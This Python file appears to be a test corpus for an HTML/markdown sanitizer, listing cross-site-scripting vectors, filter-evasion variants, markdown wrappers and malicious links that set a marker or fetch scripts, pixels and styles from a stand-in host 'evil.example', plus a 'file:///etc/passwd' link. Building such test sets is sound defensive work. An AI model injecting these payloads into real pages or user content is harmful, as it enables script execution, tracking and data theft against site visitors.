"""What an agent, a tool or a file could write so that a careless page runs it.

Each payload tries to set `window.__run`, or to ask `EVIL` for something. Vectors are plain markup;
wrappers are the ways in which markdown lets text become something else.
"""

EVIL = "http://evil.example"

_RUN = "window.__run=1"
VECTORS = [
    f"<script>{_RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={EVIL}/pixel.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><use href='{EVIL}/x.svg#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='{EVIL}/x.swf'>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<form action='{EVIL}'><button>send</button></form>",
    f"<form action='javascript:{_RUN}'><input type=submit></form>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<div style='background:url({EVIL}/x)'>x</div>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<\u017fcript>{_RUN}</\u017fcript>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"<img src=`x` onerror=`{_RUN}`>",
    f"\u202e<script>{_RUN}</script>\u202c",
    f"<a href='java\tscript:{_RUN}'>x</a>",
]
WRAPPERS = [
    "{}",
    "> {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "- [ ] {}",
    "```html\n{}\n```",
    "`{}`",
]
LINKS = [
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java&#115;cript:{_RUN})",
    f"[x](&#x6A;avascript:{_RUN})",
    f"[x](vbscript:{_RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](<javascript:{_RUN}>)",
    f"[x]( javascript:{_RUN} 'title')",
    f"[x][ref]\n\n[ref]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    f"![x](javascript:{_RUN})",
    f"![x]({EVIL}/pixel.png)",
    "![x](//evil.example/pixel.png)",
    f"![x][pic]\n\n[pic]: {EVIL}/pixel.png",
    f"[![x]({EVIL}/pixel.png)](javascript:{_RUN})",
    "[x](\\\\evil.example\\share)",
    "[x](file:///etc/passwd)",
    "[x](blob:null/x)",
]


def payloads() -> list[str]:
    """Every payload of the corpus."""
    return [*LINKS, *(wrapper.format(vector) for wrapper in WRAPPERS for vector in VECTORS)]
